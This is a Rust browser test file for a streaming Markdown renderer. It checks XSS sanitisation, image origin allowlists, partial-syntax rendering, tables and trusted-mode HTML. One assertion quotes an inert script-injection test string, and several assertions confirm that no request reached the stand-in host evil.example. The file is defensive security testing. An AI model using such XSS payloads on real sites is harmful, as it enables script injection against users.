    assert!(text.contains("<script>window.__rillmarkEngineXss = 'script block'</script>"), "raw HTML shows as text");
    assert!(count_selector(&container, "a[href]") >= 3, "safe links should stay clickable");
    assert_eq!(
        count_selector(&container, "a[href]:not([href^='#']):not([rel='noopener noreferrer'])"),
        0,
        "every link out of the page should get rel=\"noopener noreferrer\": {}",
        outline(&container)
    );
    assert_eq!(requests_to("evil.example"), 0, "no request should ever have left for evil.example");
}

#[wasm_bindgen_test]
async fn the_xss_corpus_with_an_image_origin_allowlist_loads_only_that_origin() {
    let corpus = XSS_CORPUS.concat() + "\n\n![allowed](https://cdn.example/pic.png)\n";
    let options = images_option(&ImagesOption::Origins(&["https://cdn.example"]));
    let container = stream_corpus_char_by_char(&corpus, options, "https://cdn.example").await;
    assert_eq!(
        count_selector(&container, "img[src='https://cdn.example/pic.png']"),
        1,
        "the image from the allowed origin should be an <img>: {}",
        outline(&container)
    );
    assert_eq!(count_selector(&container, "img"), 1, "images from other origins should stay blocked");
    assert_eq!(requests_to("evil.example"), 0, "no request should ever have left for evil.example");
}

#[wasm_bindgen_test]
async fn the_xss_corpus_with_all_images_allowed_loads_only_http_images() {
    // Images are allowed, so their URLs would be fetched: point them away from evil.example, which other tests
    // check was never contacted.
    let corpus = XSS_CORPUS.concat().replace("evil.example", "images-allowed.invalid");
    let container = stream_corpus_char_by_char(&corpus, images_option(&ImagesOption::Named("allow")), "allow").await;
    assert!(count_selector(&container, "img") >= 4, "http(s) images should now be <img>: {}", outline(&container));
    assert_eq!(
        count_selector(
            &container,
            "img:not([src^='https://images-allowed.invalid/']):not([src^='//images-allowed.invalid/'])"
        ),
        0,
        "only the corpus' https images should be <img> (no javascript:/data: ones): {}",
        outline(&container)
    );
    assert_eq!(requests_to("evil.example"), 0, "no request should ever have left for evil.example");
}

// ----------------------------------------------------------------------------------------------------------------
// 5. Speculative rows on real DOM

/// Streams `pieces` (flushing after each) into a fresh default renderer; returns the container and the renderer.
fn shown(pieces: &[&str]) -> (Element, Renderer) {
    let (container, r) = renderer();
    for piece in pieces {
        write_flush(&r, piece);
    }
    (container, r)
}

#[wasm_bindgen_test]
fn open_emphasis_and_code_render_closed() {
    for (text, expected) in [
        ("Some **bo", r#"p("Some " strong("bo"))"#),
        ("Some _it", r#"p("Some " em("it"))"#),
        ("Some ~~st", r#"p("Some " del("st"))"#),
        ("Some `co", r#"p("Some " code("co"))"#),
        ("Hello **", r#"p("Hello")"#),
    ] {
        let (container, r) = shown(&[text]);
        assert_eq!(outline(&container), expected, "{text:?} should show closed on screen");
        finish_verified(&r);
        assert_eq!(outline(&container), outline(&one_shot(text, JsValue::UNDEFINED)), "{text:?}: final = one-shot");
    }
    let (container, _r) = shown(&["Some **bo", "ld", " text"]);
    assert_eq!(outline(&container), r#"p("Some " strong("bold text"))"#, "bold should grow as text arrives");
}

#[wasm_bindgen_test]
fn an_open_fence_shows_a_code_block_with_its_language_class() {
    let (container, r) = shown(&["Intro\n\n", "```rust\n", "fn main() {"]);
    assert_eq!(count_selector(&container, "pre > code.language-rust"), 1, "got {}", outline(&container));
    assert_eq!(outline(&container), r#"p("Intro") pre(code[class="language-rust"]("fn main() {"))"#);
    write_flush(&r, "\n}\n``");
    assert!(!container.text_content().unwrap_or_default().contains("``"), "a partial closing fence is not code text");
    finish_verified(&r);
    assert_eq!(count_selector(&container, "pre > code.language-rust"), 1, "the finished fence keeps its class");
}

#[wasm_bindgen_test]
fn partial_links_are_pending_spans_without_href() {
    for pieces in
        [&["see [te", "xt"][..], &["see [text]"], &["see [text](http://exa"], &["see [text](http://exa", "mple"]]
    {
        let (container, _r) = shown(pieces);
        assert_eq!(count_selector(&container, "a[href]"), 0, "{pieces:?}: no href yet: {}", outline(&container));
        assert_eq!(count_selector(&container, "span.rillmark-pending"), 1, "{pieces:?}: {}", outline(&container));
        let pending = container.query_selector("span.rillmark-pending").unwrap().unwrap();
        assert_eq!(pending.text_content().as_deref(), Some("text"), "{pieces:?}: the pending span shows the text");
    }
    let (container, r) = shown(&["see [text](http://exa", "mple.com/)", " now"]);
    assert_eq!(count_selector(&container, "span.rillmark-pending"), 0, "a finished link is no longer pending");
    assert_eq!(count_selector(&container, "a[href='http://example.com/']"), 1, "got {}", outline(&container));
    finish_verified(&r);
    for text in ["visit https://exa", "visit www.exa"] {
        let (container, _r) = shown(&[text]);
        assert_eq!(count_selector(&container, "a[href]"), 0, "{text:?} should not autolink a partial URL");
    }
}

#[wasm_bindgen_test]
async fn a_partial_image_shows_a_placeholder_and_fetches_nothing() {
    install_request_detector(&Array::of1(&"https://cdn.example".into()));
    for options in [JsValue::UNDEFINED, images_option(&ImagesOption::Named("allow")), trusted()] {
        let (container, r) = renderer_with(options);
        write_flush(&r, "Look: ![a chart](https://partial-image.invalid/ch");
        assert_eq!(count_selector(&container, "img"), 0, "a partial image should not be an <img>");
        assert_eq!(count_selector(&container, ".rillmark-image"), 1, "a placeholder: {}", outline(&container));
        assert!(
            !container.inner_html().contains("partial-image.invalid"),
            "the partial URL should not be referenced: {}",
            container.inner_html()
        );
    }
    settle_frames().await;
    assert_eq!(requests_to("partial-image.invalid"), 0, "nothing should have been fetched");
}

#[wasm_bindgen_test]
fn a_table_header_waits_for_its_delimiter_row_then_rows_appear_whole() {
    let (container, r) = renderer();
    write_flush(&r, "| a | b |\n");
    assert_eq!(outline(&container), "", "a header row should wait for its delimiter row");
    write_flush(&r, "|---|");
    assert_eq!(outline(&container), "", "a partial delimiter row should keep the header waiting");
    write_flush(&r, "---|\n");
    assert_eq!(count_selector(&container, "table > thead > tr > th"), 2, "the header should appear");
    assert_eq!(count_selector(&container, "td"), 0, "no body row yet: {}", outline(&container));
    write_flush(&r, "| 1 |");
    assert_eq!(count_selector(&container, "td"), 0, "a partial row should not appear padded: {}", outline(&container));
    write_flush(&r, " 2 |\n");
    assert_eq!(count_selector(&container, "tbody > tr"), 1, "one complete row: {}", outline(&container));
    assert_eq!(count_selector(&container, "td"), 2, "with both cells");
    write_flush(&r, "| 3 | 4 |\n");
    assert_eq!(count_selector(&container, "tr"), 3, "header and two rows, nothing more: {}", outline(&container));
    finish_verified(&r);
    assert_eq!(outline(&container), outline(&one_shot(&r.text(), JsValue::UNDEFINED)), "final = one-shot");
}

#[wasm_bindgen_test]
fn a_partial_table_header_row_never_flashes_as_pipes() {
    // The header row is hidden until its delimiter row arrives, also while the header line itself is being typed;
    // otherwise the reader sees `| col a | col b |` appear, vanish at the newline, and come back as a table.
    let (container, r) = renderer();
    write_flush(&r, "Intro.\n\n");
    let mut so_far = String::from("Intro.\n\n");
    let mut flashes = Vec::new();
    for piece in ["|", " col", " a", " |", " col", " b", " |", "\n", "|---", "|---", "|\n"] {
        write_flush(&r, piece);
        so_far.push_str(piece);
        if container.text_content().unwrap_or_default().contains('|') {
            flashes.push(format!("{:?} shows {}", &so_far["Intro.\n\n".len()..], outline(&container)));
        }
    }
    assert_eq!(count_selector(&container, "th"), 2, "the header should appear with its delimiter row");
    finish_verified(&r);
    assert!(flashes.is_empty(), "a partial table header row should not show as pipes:\n{}", flashes.join("\n"));
}

#[wasm_bindgen_test]
fn setext_underlines_block_markers_and_intraword_underscores_wait() {
    for (text, expected) in [
        ("Title\n-", r#"p("Title")"#),
        ("Title\n=", r#"p("Title")"#),
        ("Title\n---\n", r#"h2("Title")"#),
        ("para\n\n-", r#"p("para")"#),
        ("para\n\n#", r#"p("para")"#),
        ("para\n\n>", r#"p("para")"#),
        ("para\n\n1.", r#"p("para")"#),
    ] {
        let (container, _r) = shown(&[text]);
        assert_eq!(outline(&container), expected, "{text:?} should show only what is decided");
    }
    let (container, r) = renderer();
    for piece in ["snake", "_", "case", "_", "name", " and more"] {
        write_flush(&r, piece);
        assert_eq!(count_selector(&container, "em"), 0, "intraword `_` should never flash emphasis");
    }
}

// ----------------------------------------------------------------------------------------------------------------
// 6. Trusted mode

/// comrak's one-shot HTML for `text` with the trusted options, parsed by the browser (the oracle only).
fn oracle(text: &str) -> Element {
    let opts = RenderOptions { trusted: true, ..RenderOptions::default() };
    parsed_html(&comrak::markdown_to_html(text, &comrak_options(&opts)))
}

/// Renders `text` in trusted mode one-shot and char by char; returns a description of each way the shown structure
/// (holders unwrapped) differs from the browser's parse of comrak's HTML.
fn trusted_mismatches(text: &str) -> Vec<String> {
    let expected = outline(&oracle(text));
    let mut problems = Vec::new();
    let oneshot = one_shot(text, trusted());
    let got = outline(&unwrap_holders(&oneshot));
    if got != expected {
        problems.push(format!("{text:?} one-shot:\n    expected {expected}\n    got      {got}"));
    }
    let (container, r) = renderer_with(trusted());
    for (at, ch) in text.char_indices() {
        write_flush(&r, &text[at..at + ch.len_utf8()]);
    }
    finish_verified(&r);
    let got = outline(&unwrap_holders(&container));
    if got != expected {
        problems.push(format!("{text:?} char by char:\n    expected {expected}\n    got      {got}"));
    }
    if outline(&container) != outline(&oneshot) {
        problems.push(format!(
            "{text:?}: char by char differs from one-shot:\n    {}\n    {}",
            outline(&container),
            outline(&oneshot)
        ));
    }
    problems
}

#[wasm_bindgen_test]
fn trusted_block_html_passes_through_as_the_browser_parses_it() {
    let cases = [
        "<div class=\"note\">\n<b>block</b> html\n</div>\n\nAfter **md**.\n",
        "<table><tr><td>cell</td></tr></table>\n\nText.\n",
        "Para.\n\n<p align=\"center\">centred <em>text</em></p>\n",
        "<!-- a comment -->\n\n# Heading\n",
        "<section>\n<h3>Raw heading</h3>\n<ul><li>raw item</li></ul>\n</section>\n",
    ];
    let problems: Vec<String> = cases.iter().flat_map(|text| trusted_mismatches(text)).collect();
    assert!(problems.is_empty(), "trusted block HTML should match the browser's parse:\n{}", problems.join("\n"));
    let container = one_shot(cases[0], trusted());
    assert_eq!(count_holders(&container), 0, "raw HTML should be built in place, with no holder (issue 15)");
    assert_eq!(count_selector(&container, "div.note > b"), 1, "the raw <div> and <b> should be real elements");
}

#[wasm_bindgen_test]
fn trusted_inline_b_becomes_a_real_b_element_holding_its_text() {
    let container = one_shot("Some <b>x</b> here.\n", trusted());
    let b = container.query_selector("b").unwrap();
    assert!(b.is_some(), "`<b>x</b>` should become a real <b>: {}", outline(&container));
    assert_eq!(
        b.and_then(|b| b.text_content()).as_deref(),
        Some("x"),
        "the <b> should hold \"x\" (as the browser parses comrak's <p>Some <b>x</b> here.</p>): {}",
        outline(&container)
    );
}

#[wasm_bindgen_test]
fn trusted_inline_and_mixed_html_matches_the_browser_parse() {
    let cases = [
        "Some <b>bold</b> text.\n",
        "A <span title=\"t\">span *with* emphasis</span> end.\n",
        "Line with <br> break and <em>em</em>.\n",
        "- item <kbd>Ctrl</kbd>+<kbd>C</kbd>\n",
        "<details>\n<summary>Sum</summary>\n\nInner **md**.\n\n</details>\n",
    ];
    let problems: Vec<String> = cases.iter().flat_map(|text| trusted_mismatches(text)).collect();
    assert!(problems.is_empty(), "trusted inline HTML should match the browser's parse:\n{}", problems.join("\n"));
}
